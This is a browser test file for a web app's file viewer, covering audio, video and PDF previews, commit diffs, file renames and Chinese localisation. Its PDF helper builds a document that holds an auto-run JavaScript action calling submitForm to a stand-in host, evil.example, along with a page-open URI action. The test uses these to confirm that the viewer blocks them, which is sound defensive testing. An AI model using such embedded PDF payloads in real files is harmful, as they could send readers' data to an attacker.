import { execFile } from 'node:child_process'
import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { TestPlaza } from '../plaza.ts'
import { Chromium, chromiumProblem, desktop, phone, watchFaults } from './chromium.ts'

const run = promisify(execFile)
const named = chromiumProblem === undefined ? '' : ` (left out: ${chromiumProblem})`
const withBrowser = test.skipIf(chromiumProblem !== undefined)

let plaza: TestPlaza
let browser: Chromium
beforeAll(async () => {
  if (chromiumProblem !== undefined) return
  ;[plaza, browser] = await Promise.all([TestPlaza.start(), Chromium.start()])
})
afterAll(async () => {
  await browser?.[Symbol.asyncDispose]()
  await plaza?.[Symbol.asyncDispose]()
})

const at = (place: string) => new URL(place, plaza.url).href
const card = '---\ntitle: Tides\nsdk: static\n---\n'

async function signIn(page: Page, name: string): Promise<void> {
  await page.goto(at('/sign-in'))
  await page.getByLabel('Name', { exact: false }).first().fill(name)
  await page.getByLabel('Password').fill(`${name}-password`)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.waitForURL(at('/'))
}

/** A static Space whose files are these. */
async function publish(name: string, files: Record<string, string | Buffer>): Promise<string> {
  await plaza.publish('alice', name, { 'README.md': card, 'index.html': '<h1>Tides</h1>', ...files })
  return `alice/${name}`
}

/** Half a second of a quiet tone, as RIFF writes it. */
function tone(): Buffer {
  const rate = 8000
  const samples = Buffer.alloc(rate)
  for (let at = 0; at < rate / 2; at += 1) samples.writeInt16LE(Math.round(2000 * Math.sin(at / 3)), at * 2)
  const head = Buffer.alloc(44)
  head.write('RIFF', 0)
  head.writeUInt32LE(36 + samples.length, 4)
  head.write('WAVEfmt ', 8)
  head.writeUInt32LE(16, 16)
  head.writeUInt16LE(1, 20)
  head.writeUInt16LE(1, 22)
  head.writeUInt32LE(rate, 24)
  head.writeUInt32LE(rate * 2, 28)
  head.writeUInt16LE(2, 32)
  head.writeUInt16LE(16, 34)
  head.write('data', 36)
  head.writeUInt32LE(samples.length, 40)
  return Buffer.concat([head, samples])
}

/** A moment of a canvas, as the browser itself records it. */
async function film(): Promise<Buffer> {
  const page = await (await browser.person()).newPage()
  const bytes = await page.evaluate(async () => {
    const canvas = document.createElement('canvas')
    canvas.width = 64
    canvas.height = 48
    document.body.append(canvas)
    const pencil = canvas.getContext('2d')
    const recorder = new MediaRecorder(canvas.captureStream(20), { mimeType: 'video/webm;codecs=vp8' })
    const pieces: Blob[] = []
    const frames = { left: 12 }
    await new Promise((resolve) => {
      recorder.addEventListener('dataavailable', ({ data }) => pieces.push(data))
      recorder.addEventListener('stop', resolve)
      recorder.start()
      const draw = () => {
        pencil?.fillRect(frames.left, 0, 10, 48)
        frames.left -= 1
        if (frames.left > 0) setTimeout(draw, 50)
        else recorder.stop()
      }
      draw()
    })
    return [...new Uint8Array(await new Blob(pieces).arrayBuffer())]
  })
  await page.context().close()
  return Buffer.from(bytes)
}

/** Two pages, the second in a font that a PDF of China only names; and what a PDF can try: a script, and an address that is opened with it. */
function pdf(): Buffer {
  const content = (font: string, words: string) => {
    const drawn = `BT /${font} 40 Tf 40 120 Td ${words} Tj ET`
    return `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`
  }
  const page = (contents: number) =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents ${contents} 0 R /Resources << /Font << /F1 7 0 R /F2 10 0 R >> >> /AA << /O 9 0 R >> >>`
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 2 >>',
    page(4),
    content('F1', '(High tide)'),
    page(6),
    content('F2', '<6F6E6C50>'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\);) /Next 9 0 R >>',
    '<< /S /URI /URI (https://evil.example/) >>',
    '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [11 0 R] >>',
    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /DW 1000 /FontDescriptor 12 0 R >>',
    '<< /Type /FontDescriptor /FontName /STSong-Light /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 80 >>',
  ]
  let text = '%PDF-1.4\n'
  const places = objects.map((object, at) => {
    const place = text.length
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return place
  })
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  text += `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

for (const [view, options] of [
  ['desktop', desktop],
  ['phone', phone],
] as const) {
  withBrowser(`sounds, films and PDFs are seen where they lie: ${view}${named}`, { timeout: 60_000 }, async () => {
    const id = await publish(`media-${view}`, {
      'tone.wav': tone(),
      'clip.webm': await film(),
      'docs/paper.pdf': pdf(),
      'noise.mp3': 'this is no sound',
      'broken.pdf': 'this is no PDF',
    })
    const page = await (await browser.person(options)).newPage()
    const faults = watchFaults(page, plaza.url.origin)
    const elsewhere: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith('blob:') && new URL(request.url()).origin !== plaza.url.origin)
        elsewhere.push(request.url())
    })
    page.on('dialog', (dialog) => {
      elsewhere.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    const ready = async (tag: string) =>
      await page.locator(tag).evaluate(async (player: HTMLMediaElement) => {
        if (player.readyState < 1) {
          await new Promise((resolve, reject) => {
            player.addEventListener('loadedmetadata', resolve)
            player.addEventListener('error', () => reject(new Error(player.error?.message)))
          })
        }
        return {
          seconds: player.duration,
          width: player instanceof HTMLVideoElement ? player.videoWidth : 0,
        }
      })

    await page.goto(at(`/spaces/${id}/blob/main/tone.wav`))
    expect((await ready('audio')).seconds).toBeCloseTo(0.5, 1)
    await page.goto(at(`/spaces/${id}/blob/main/clip.webm`))
    expect((await ready('video')).width).toBe(64)
    // Faces that it has not, and text that it is not, are not offered.
    expect(await page.getByRole('button', { name: 'Copy the file' }).count()).toBe(0)
    expect(await page.getByRole('link', { name: 'Code', exact: true }).count()).toBe(0)

    await page.goto(at(`/spaces/${id}/blob/main/docs/paper.pdf`))
    const sheets = page.locator('.pdf li')
    await sheets.filter({ hasText: 'High tide' }).waitFor()
    await sheets.filter({ hasText: '潮汐' }).waitFor()
    expect(await sheets.count()).toBe(2)
    expect(await sheets.first().evaluate((sheet) => sheet.clientWidth / sheet.clientHeight)).toBeCloseTo(2, 1)
    const inked = await sheets
      .first()
      .locator('canvas')
      .evaluate((canvas: HTMLCanvasElement) => {
        const pixels = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? []
        return pixels.some((value, at) => at % 4 === 0 && value < 100)
      })
    expect(inked).toBe(true)
    expect(page.url()).toBe(at(`/spaces/${id}/blob/main/docs/paper.pdf`))

    await page.goto(at(`/spaces/${id}/blob/main/broken.pdf`))
    await page.getByText('broken.pdf cannot be shown').waitFor()
    await page.goto(at(`/spaces/${id}/blob/main/noise.mp3`))
    await page.getByText('noise.mp3 cannot be played here').waitFor()
    const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
    expect(wide).toBeLessThanOrEqual(0)
    expect(elsewhere).toEqual([])
    expect(faults).toEqual([])
  })
}

withBrowser(`a commit says why, and its diff shows which words changed${named}`, async () => {
  const id = await publish('words', { 'app.py': 'import tide\n\nheight = tide.at(3, "low")\n' })
  const page = await (await browser.person(desktop)).newPage()
  const faults = watchFaults(page, plaza.url.origin)
  await signIn(page, 'alice')
  await page.goto(at(`/spaces/${id}/edit/app.py`))
  const editor = page.getByRole('textbox', { name: 'Content of the file' })
  await editor.click()
  await page.keyboard.press('Control+A')
  await page.keyboard.insertText('import tide\n\nheight = tide.at(4, "low")\n')
  await page.getByLabel('Commit message').fill('Look at four')
  await page.getByLabel('Description').fill('The moon is late.\n\nSecond paragraph.')
  // What was typed as the reason survives a reload too.
  page.on('dialog', (dialog) => void dialog.accept())
  await page.reload()
  await page.getByText('This is what you typed').waitFor()
  expect(await page.getByLabel('Description').inputValue()).toBe('The moon is late.\n\nSecond paragraph.')
  await page.getByLabel('Description').press('Control+Enter')
  await page.waitForURL(at(`/spaces/${id}/blob/main/app.py`))
  await page.locator('.newest').getByRole('link', { name: 'Look at four' }).click()
  await page.getByRole('heading', { name: 'Look at four' }).waitFor()
  await page.getByText('The moon is late.\n\nSecond paragraph.').waitFor()
  const diff = page.getByRole('region', { name: 'Changes of app.py' })
  const marked = async () => await diff.locator('mark').allTextContents()
  await diff.locator('mark').first().waitFor()
  expect(await marked()).toEqual(['3', '4'])
  // Also once the colours of the code have come.
  await diff.locator('.added span[style]').first().waitFor()
  expect(await marked()).toEqual(['3', '4'])
  await page.getByRole('button', { name: 'Two columns' }).click()
  expect(await marked()).toEqual(['3', '4'])

  // The dialogs have it too.
  await page.goto(at(`/spaces/${id}/blob/main/app.py`))
  await page.getByRole('button', { name: 'More of this file' }).click()
  await page.getByRole('menuitem', { name: 'Delete' }).click()
  await page.getByLabel('Description').fill('Nobody needs it.')
  await page.getByRole('button', { name: 'Delete file' }).click()
  await page.waitForURL(at(`/spaces/${id}/tree/main`))
  await page.goto(at(`/spaces/${id}/commits/main`))
  await page.getByRole('link', { name: 'Delete app.py', exact: true }).click()
  await page.getByText('Nobody needs it.').waitFor()
  expect(faults).toEqual([])
})

withBrowser(`a program stays one when it is edited and renamed in the browser${named}`, async () => {
  const id = await publish('program', {})
  const folder = await mkdtemp(path.join(tmpdir(), 'plaza-program-'))
  try {
    const { token } = plaza.person('alice')
    const address = new URL(`/spaces/${id}`, plaza.url)
    address.username = 'alice'
    address.password = token
    const git = async (...words: string[]) =>
      (await run('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.org', ...words], { cwd: folder })).stdout
    await git('clone', '--quiet', address.href, '.')
    await writeFile(path.join(folder, 'start.sh'), '#!/bin/sh\necho tide\n')
    await chmod(path.join(folder, 'start.sh'), 0o755)
    await git('add', '--all')
    await git('commit', '--quiet', '-m', 'A program')
    await git('push', '--quiet', 'origin', 'HEAD:main')

    const page = await (await browser.person(desktop)).newPage()
    await signIn(page, 'alice')
    await page.goto(at(`/spaces/${id}/edit/start.sh`))
    await page.getByRole('textbox', { name: 'Content of the file' }).click()
    await page.keyboard.press('Control+End')
    await page.keyboard.insertText('echo ebb\n')
    await page.getByRole('button', { name: 'Commit to main' }).click()
    await page.waitForURL(at(`/spaces/${id}/blob/main/start.sh`))
    await page.getByRole('button', { name: 'More of this file' }).click()
    await page.getByRole('menuitem', { name: 'Rename or move' }).click()
    await page.getByRole('textbox', { name: 'Path' }).fill('bin/go.sh')
    await page.getByRole('button', { name: 'Rename file' }).click()
    await page.waitForURL(at(`/spaces/${id}/blob/main/bin/go.sh`))
    await git('fetch', '--quiet', 'origin', 'main')
    expect(await git('ls-tree', '-r', 'FETCH_HEAD', 'bin/go.sh')).toMatch(/^100755 /)
    expect(await git('show', 'FETCH_HEAD:bin/go.sh')).toBe('#!/bin/sh\necho tide\necho ebb\n')
  } finally {
    await rm(folder, { recursive: true })
  }
})

withBrowser(`every page of files speaks Chinese to those who chose it${named}`, async () => {
  const id = await publish('chinese', { 'app.py': 'tide = 1\n', 'table.csv': 'a,b\n1,2\n' })
  const context = await browser.person(desktop)
  await context.addInitScript(() => {
    localStorage.setItem('plaza-language', 'en')
  })
  const page = await context.newPage()
  const faults = watchFaults(page, plaza.url.origin)
  await signIn(page, 'alice')
  await context.addInitScript(() => {
    localStorage.setItem('plaza-language', 'zh')
  })
  for (const [place, ...texts] of [
    ['tree/main', '添加文件', '历史记录', '查找文件'],
    ['blob/main/app.py', '1 行', '编辑'],
    ['blob/main/table.csv', '1 行，2 列', '预览', '代码'],
    ['edit/app.py', '提交到 main', '提交信息', '详细说明', '更改'],
    ['new-file', '新文件的路径', '取消'],
    ['upload', '将文件或文件夹拖到此处', '选择文件夹'],
    ['commits/main'],
    ['blame/main/app.py', '返回文件'],
  ]) {
    await page.goto(at(`/spaces/${id}/${place}`))
    for (const text of texts) await page.getByText(text).first().waitFor()
    // The page's own words: what people wrote, and what is code, stays.
    const english = await page.locator('.files').evaluate((files) =>
      [...files.querySelectorAll<HTMLElement>('button, label, h2, .help, th, .chip')]
        .map((element) => element.innerText || element.ariaLabel || '')
        .filter((text) => /\b(the|of|to|file|files|commit|edit|copy|show|delete|upload|cancel|download)\b/i.test(text))
        .filter((text) => !/[\u4e00-\u9fff]/.test(text)),
    )
    expect(english, place).toEqual([])
  }
  expect(await page.title()).toContain('逐行追溯')
  expect(faults).toEqual([])
})
